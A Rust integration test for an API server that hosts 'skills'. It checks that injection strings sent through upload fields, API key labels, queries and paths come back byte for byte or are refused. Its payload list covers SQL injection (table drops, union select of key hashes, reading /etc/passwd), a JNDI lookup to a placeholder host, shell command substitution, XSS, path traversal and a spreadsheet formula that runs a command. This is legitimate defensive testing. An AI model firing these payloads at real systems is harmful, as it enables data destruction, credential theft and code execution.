//! Texts that are commands to something else - a database, a template, a shell, a terminal, a browser: each is kept as it
//! is or refused, never done, and given back byte for byte.

use serde_json::json;

use super::line::{head, send};
use super::*;

/// One line each, so that they may stand in every field.
const TRICKS: &[&str] = &[
    "'; drop table skills; --",
    "' or '1'='1",
    "\"; delete from keys; --",
    "x') union select secret_sha256 from keys --",
    "$1 $2 ?1 :name @p",
    "\\'; select pg_sleep(10); --",
    "1; attach database '/etc/passwd' as x",
    "pdf* NEAR/0 \"a\" AND (b OR NOT c) col:x ^d -e",
    "' & | ! <-> :* 'a'",
    "%s%s%s%n %d {0} {} ${x} #{7*7} {{7*7}} <%= 7*7 %> {% raw %}",
    "${jndi:ldap://x.example/a} $(touch /tmp/siege) `touch /tmp/siege`",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "\u{202e}gnp.exe \u{200b}\u{feff} e\u{301} \u{1f600}",
];

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[test]
fn every_text_comes_back_as_it_was_and_nothing_is_done() {
    on_both(|hub| {
        let key = hub.admin_key();
        let before = counted(&hub);
        for (n, trick) in TRICKS.iter().enumerate() {
            let slug = format!("trick-{n}");
            let body = format!("# {trick}\n\n{trick}\n");
            let quoted = serde_json::to_string(trick).unwrap();
            let skill_md = format!(
                "---\nname: {slug}\ndescription: {quoted}\nmetadata:\n  title: {quoted}\n---\n{body}"
            );
            let upload = Upload {
                said: json!({"slug": slug, "visibility": "public", "changelog": trick, "category": trick}),
                archive: upload::pack(&[("SKILL.md", skill_md.as_bytes())]),
            };
            let answered = upload.to(&hub, key);
            // What a gate or a rule refuses is refused for what it is, and not half stored.
            if answered.status != 201 {
                assert!([400, 422].contains(&answered.status), "{trick}: {}", answered.json());
                assert_eq!(hub.ask("GET", &format!("/api/skills/{slug}"), None, None).status, 404, "{trick}");
                continue;
            }
            let details = hub.ask("GET", &format!("/api/skills/{slug}"), None, None).json();
            assert_eq!(
                (details["description"].as_str(), details["title"].as_str(), details["category"].as_str()),
                (Some(*trick), Some(*trick), Some(*trick))
            );
            let versions = hub.ask("GET", &format!("/api/skills/{slug}/versions"), None, None).json();
            assert_eq!(versions["versions"][0]["changelog"].as_str(), Some(*trick));
            let file = hub.ask("GET", &format!("/api/skills/{slug}/files/SKILL.md"), None, None);
            assert_eq!(String::from_utf8_lossy(&file.body), skill_md);
            let header = |name: &str| file.headers.iter().find(|(known, _)| known == name).map(|(_, v)| &**v);
            assert_eq!(header("content-disposition"), Some("attachment"));
            assert_eq!(header("x-content-type-options"), Some("nosniff"));
            let superseded = json!({"reason": trick, "replaced_by": slug});
            assert_eq!(
                hub.ask("POST", &format!("/api/skills/{slug}/deprecate"), Some(key), Some(&superseded))
                    .status,
                204
            );
            let details = hub.ask("GET", &format!("/api/skills/{slug}"), None, None).json();
            assert_eq!(details["deprecated"].as_str(), Some(*trick));
        }
        for trick in TRICKS {
            let made =
                hub.ask("POST", "/api/keys", Some(key), Some(&json!({"label": trick, "scopes": ["read"]})));
            if made.status == 201 {
                assert_eq!(made.json()["label"].as_str(), Some(*trick));
                let listed = hub.ask("GET", "/api/keys", Some(key), None).json();
                assert!(listed["keys"].as_array().unwrap().iter().any(|key| key["label"] == *trick));
            }
            for field in ["account", "scopes", "tier"] {
                let value = if field == "scopes" { json!([trick]) } else { json!(trick) };
                let refused = hub.ask("POST", "/api/keys", Some(key), Some(&json!({ field: value })));
                assert_eq!(refused.status, 400, "{field} {trick}: {}", refused.json());
            }
            // In every query and every part of a path.
            let text = encoded(trick);
            for (path, statuses) in [
                (format!("/api/skills/search?q={text}"), &[200][..]),
                (format!("/api/skills/search?q=a&page={text}"), &[400]),
                (format!("/api/skills/search?q=a&page_size={text}"), &[400]),
                (format!("/api/skills/install?slug={text}"), &[400]),
                (format!("/api/skills/install?slug=trick-0&version={text}"), &[400]),
                (format!("/api/skills/install?slug=trick-0&mode={text}"), &[400]),
                (format!("/api/skills/access?slug={text}"), &[400]),
                (format!("/api/skills/{text}"), &[400]),
                (format!("/api/skills/{text}/versions"), &[400]),
                (format!("/api/skills/trick-0/files/{text}"), &[400, 404]),
                (format!("/api/skills/trick-0/files/SKILL.md?version={text}"), &[400]),
                (format!("/api/state?after={text}"), &[200]),
                (format!("/api/keys?page={text}"), &[400]),
                (format!("/cdn/blobs/sha256/{text}"), &[404]),
                (format!("/cdn/releases/sha256/{text}?exp=1&key={text}&sig={text}"), &[404]),
                (format!("/trust/root/{text}"), &[404]),
                (format!("/trust/advisories/{text}"), &[404]),
            ] {
                let reply = send(&hub, head("GET", &path, &[&format!("x-api-key: {key}")]));
                assert!(statuses.contains(&reply.status), "{path} of {trick}: {reply:?}");
                if reply.status != 200 {
                    reply.problem(reply.status);
                }
            }
            let delete = head("DELETE", &format!("/api/keys/{text}"), &[&format!("x-api-key: {key}")]);
            send(&hub, delete).problem(404);
        }
        // Zero bytes can stand in no text; a line can hold no break and no control character.
        for trick in ["a\0b", "a\nb", "a\rb", "\u{1b}[31mred", "\u{7f}"] {
            for (path, body) in [
                ("/api/keys", json!({"label": trick})),
                ("/api/skills/trick-0/deprecate", json!({"reason": trick})),
                ("/api/skills/trick-0/yank", json!({"version": "1.0.0", "reason": trick})),
            ] {
                let refused = hub.ask("POST", path, Some(key), Some(&body));
                assert_eq!(refused.status, 400, "{path} {trick:?}");
                assert!(!refused.body.contains(&0x1b), "{path} {trick:?}");
            }
            let upload = Upload {
                said: json!({"slug": "trick-x", "category": trick}),
                ..Upload::of("trick-x", "1.0.0", "")
            };
            assert_eq!(upload.to(&hub, key).status, 400, "{trick:?}");
        }
        let zero = Upload {
            said: json!({"slug": "trick-x", "changelog": "a\0b"}),
            ..Upload::of("trick-x", "1.0.0", "")
        };
        assert_eq!(zero.to(&hub, key).status, 400);
        let after = counted(&hub);
        assert!(after.iter().zip(&before).all(|(after, before)| after >= before), "{before:?} {after:?}");
        assert!(!Path::new("/tmp/siege").exists());
        assert!(!hub.log().contains('\u{1b}'), "a terminal would obey the log");
        unharmed(&hub);
    });
}

/// How much there is of what a command could take away.
fn counted(hub: &Hub) -> Vec<u64> {
    let found = hub.ask("GET", "/api/skills/search?page_size=100", Some(hub.admin_key()), None).json();
    let keys = hub.ask("GET", "/api/keys", Some(hub.admin_key()), None).json();
    vec![found["total"].as_u64().unwrap(), keys["keys"].as_array().unwrap().len() as u64]
}
